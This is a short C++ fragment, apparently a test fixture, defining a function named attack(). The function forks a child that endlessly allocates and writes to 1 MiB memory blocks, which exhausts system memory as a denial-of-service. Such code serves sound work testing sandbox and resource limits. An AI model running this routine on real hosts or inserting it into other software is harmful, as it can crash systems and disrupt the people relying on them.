#include <cstdlib>
#include <cstring>
#include <sys/wait.h>
#include <unistd.h>

void attack() {
  if (fork() == 0)
    for (;;)
      if (void *piece = malloc(1 << 20)) memset(piece, 1, 1 << 20);
  wait(nullptr);
}
